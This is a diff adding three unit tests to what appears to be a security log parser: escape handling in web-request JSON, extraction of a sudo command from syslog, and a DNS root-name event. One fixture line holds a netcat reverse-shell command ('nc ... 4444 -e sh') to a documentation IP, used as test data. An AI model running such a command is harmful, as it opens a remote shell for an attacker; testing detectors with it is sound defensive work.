@@ -185,3 +185,21 @@ def test_a_quote_that_never_ends_costs_one_row_after_the_other(tmp_path: Path) -
 def test_a_first_line_of_prose_is_no_line_of_names() -> None:
     parser = LineParser("x.log")
     assert parser.parse(b"Starting up, version 2") == "no-header" and parser.parse(b"time,CommandLine") == "no-header"
+
+
+def test_escapes_that_are_no_json_are_read() -> None:
+    record = rb'{"time_iso8601": "2024-05-01T08:00:00Z", "request": "GET /?q=\x3Cb\x3E\\x41 HTTP/1.1", "host": "a.example"}'
+    assert r"/?q=<b>\x41" in strings(record.decode())[0]
+    assert LineParser("x").parse(rb'{"a": "\xZZ"}') == "bad-json"
+
+
+def test_a_command_keeps_every_word() -> None:
+    assert set(strings(f"{SYSLOG}sudo: b : TTY=a ; USER=root ; COMMAND=/bin/nc 198.51.100.7 4444 -e sh")[0]) == {
+        "/bin/nc 198.51.100.7 4444 -e sh"
+    }
+
+
+def test_the_root_s_name_is_no_error(tmp_path: Path) -> None:
+    (tmp_path / "eve.json").write_text('{"timestamp":"2024-05-01T08:00:00Z","event_type":"dns","dns":{"rrname":"."}}\n')
+    events, summary = watch_once(tmp_path, tmp_path / "eve.json", explain=False)
+    assert summary["errors"] == 0 and {event["label"] for event in events} <= {"unknown"} and balanced(summary)
